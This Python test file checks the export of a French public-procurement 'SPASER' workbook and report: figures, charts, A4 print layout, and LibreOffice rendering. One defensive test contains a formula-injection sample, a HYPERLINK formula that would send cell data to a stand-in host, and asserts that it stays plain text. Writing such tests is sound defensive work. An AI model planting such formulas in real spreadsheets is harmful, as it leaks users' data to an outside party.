"""The SPASER workbook and report: the same figures, charts below their data, LibreOffice opens them."""

from __future__ import annotations

import dataclasses
import io
import re
import subprocess
import zipfile
from pathlib import Path

import docx
import pytest
from openpyxl import load_workbook

from clauses.followup import balance
from clauses.followup.report import follow_up_report
from clauses.library import Library
from clauses.spaser import Indicators, indicators, spaser_docx, spaser_xlsx
from clauses.spaser.export import CHART_HEIGHT
from clauses.spaser.tables import tables
from tests.conftest import AS_OF, require_tool
from tests.followup import fixtures as followup_fixtures
from tests.libreoffice import LibreOffice
from tests.spaser.fixtures import REGION, crowded, records

NBSP = "\u00a0"


@pytest.fixture(scope="module")
def ind(library: Library) -> Indicators:
    return indicators(records(library), REGION, 2027, library)


def test_workbook_holds_numbers_and_native_charts(ind: Indicators, library: Library) -> None:
    workbook = load_workbook(io.BytesIO(spaser_xlsx(ind, library)))
    assert workbook.sheetnames[:3] == ["Synthèse", "Social", "Heures"]
    summary = workbook["Synthèse"]
    assert summary["A3"].value.startswith("Marchés notifiés")
    assert summary["B3"].value == 5
    assert summary["B4"].value == 6_445_000
    assert summary["B4"].number_format == '#,##0 "€"'
    social = workbook["Social"]
    assert [c.value for c in social[3]] == [
        "Clause sociale",
        2,
        0.4,
        5_850_000,
        5_850_000 / 6_445_000,
    ]
    assert len(social._charts) == 1  # drawn from the table beside it
    assert len(workbook["Heures"]._charts) == 1
    assert workbook["Heures"]["B4"].value == 1000
    assert workbook["L2112-2-1"]["B3"].value == 3
    assert workbook["Dérogations"]["C3"].value == "Pas de main-d’œuvre"
    assert workbook["Non comptés"]["A3"].value.startswith("Incomplet : award.procedure")


def test_report_gives_every_chart_its_table(ind: Indicators, library: Library) -> None:
    document = docx.Document(io.BytesIO(spaser_docx(ind, library, AS_OF)))
    headings = [p.text for p in document.paragraphs if p.style.name == "Heading 1"]
    assert headings[:3] == [
        "Synthèse",
        "Considérations sociales (valeurs DECP)",
        "Heures d’insertion",
    ]
    cells = [[c.text for c in row.cells] for table in document.tables for row in table.rows]
    assert ["Montant total HT", f"6{NBSP}445{NBSP}000{NBSP}€"] in cells
    assert ["Part en nombre", f"60{NBSP}%"] in cells
    assert [
        "Clause sociale",
        "2",
        f"40{NBSP}%",
        f"5{NBSP}850{NBSP}000{NBSP}€",
        f"90,8{NBSP}%",
    ] in cells
    assert ["Ensemble des acheteurs (2023)", f"18,7{NBSP}%"] in cells
    assert ["Bénéficiaire du RSA", "3"] in cells


def test_libreoffice_opens_the_workbook_and_the_reports(
    tmp_path: Path, ind: Indicators, library: Library, libreoffice: LibreOffice
) -> None:
    followup = followup_fixtures.followup()
    result = balance(followup, followup_fixtures.strategy(), followup_fixtures.profile(), 1600)
    files = {
        "spaser-classeur.xlsx": spaser_xlsx(ind, library),
        "spaser-rapport.docx": spaser_docx(ind, library, AS_OF),
        "suivi.docx": follow_up_report(
            followup_fixtures.profile(), None, followup, result, library, AS_OF
        ),
    }
    for name, data in files.items():
        source = tmp_path / name
        source.write_bytes(data)
        pdf = libreoffice.convert(source)
        assert pdf.read_bytes().startswith(b"%PDF-"), name
        assert pdf.stat().st_size > 5_000, name


FORMULA = '=HYPERLINK("http://exemple.test/?fuite="&A1,"Voir")'


def test_text_that_looks_like_a_formula_stays_text_on_every_sheet(library: Library) -> None:
    """Issue 20, finding 6: a dossier renamed as a formula, with a derogation, was a live
    formula in the « Dérogations » sheet."""
    renamed = [
        dataclasses.replace(r, label=FORMULA, organisation=f"+{REGION}")
        if r.label == "Nettoyage"
        else r
        for r in records(library)
    ]
    content = spaser_xlsx(indicators(renamed, f"+{REGION}", 2027, library), library)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in package.read(name) for name in sheets)
    workbook = load_workbook(io.BytesIO(content))
    quoted = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("=")
    ]
    assert quoted, "the title is in the workbook"
    assert {cell.data_type for cell in quoted} == {"s"}
    assert FORMULA in [cell.value for cell in workbook["Dérogations"]["A"]]


def test_every_sheet_prints_on_a4_landscape_one_page_wide(
    ind: Indicators, library: Library
) -> None:
    workbook = load_workbook(io.BytesIO(spaser_xlsx(crowded(ind, library), library)))
    charted = 0
    for sheet in workbook.worksheets:
        setup = sheet.page_setup
        assert (setup.paperSize, setup.orientation) == (9, "landscape"), sheet.title  # A4
        assert (setup.fitToWidth, setup.fitToHeight) == (1, 0), sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        assert sheet.print_title_rows == "$1:$2", sheet.title
        margins = sheet.page_margins
        assert (margins.left, margins.right, margins.top, margins.bottom) == (0.6, 0.6, 0.75, 0.75)
        assert sheet.oddFooter.center.text == "&A – page &P sur &N"
        breaks = [b.id for b in sheet.row_breaks.brk]
        for chart in sheet._charts:
            charted += 1
            anchor = chart.anchor._from
            # In column A, two rows below a page break that follows the table and its note.
            assert anchor.col == 0, sheet.title
            assert breaks == [anchor.row - 1] and anchor.row - 1 >= sheet.max_row, sheet.title
            assert chart.height <= CHART_HEIGHT, sheet.title
        assert len(sheet._charts) <= 1 and (breaks == []) == (not sheet._charts), sheet.title
    assert charted == 4 == sum(t.chart for t in tables(ind, library))


def test_libreoffice_prints_each_chart_whole_on_few_landscape_pages(
    tmp_path: Path, ind: Indicators, library: Library, libreoffice: LibreOffice
) -> None:
    """Issue 21: the charts were cut across 20 printed pages. Each sheet is now one page wide,
    and each chart (the tallest one too) is printed whole, alone on its page."""
    pdfinfo = require_tool("pdfinfo")
    pdftotext = require_tool("pdftotext")
    full = crowded(ind, library)
    source = tmp_path / "spaser.xlsx"
    source.write_bytes(spaser_xlsx(full, library))
    pdf = libreoffice.convert(source)
    info = subprocess.run([pdfinfo, str(pdf)], capture_output=True, text=True, check=True).stdout
    assert re.search(r"Page size:\s+841\.\d+ x 595\.\d+ pts \(A4\)", info), info
    charts = [t for t in tables(full, library) if t.chart]
    sheets = len(tables(full, library))
    pages = int(re.search(r"Pages:\s+(\d+)", info).group(1))  # type: ignore[union-attr]
    # One page a sheet and one a chart, but the 80 dossiers left out, which need three.
    assert sheets + len(charts) <= pages <= sheets + len(charts) + 2
    texts = [
        subprocess.run(
            [pdftotext, "-f", str(n), "-l", str(n), str(pdf), "-"],
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        for n in range(1, pages + 1)
    ]
    for table in charts:
        # The chart's title alone on a line (the repeated title row adds the organisation).
        on = [n for n, text in enumerate(texts) if table.title in text.splitlines()]
        assert len(on) == 1, (table.title, on)
        page = " ".join(texts[on[0]].split())
        labels = [str(row[0]) for row in table.rows]
        assert all(" ".join(label.split()) in page for label in labels), (table.title, page)
        assert table.header[1] in page  # the axis title, below the bars
        assert f"page {on[0] + 1} sur {pages}" in page
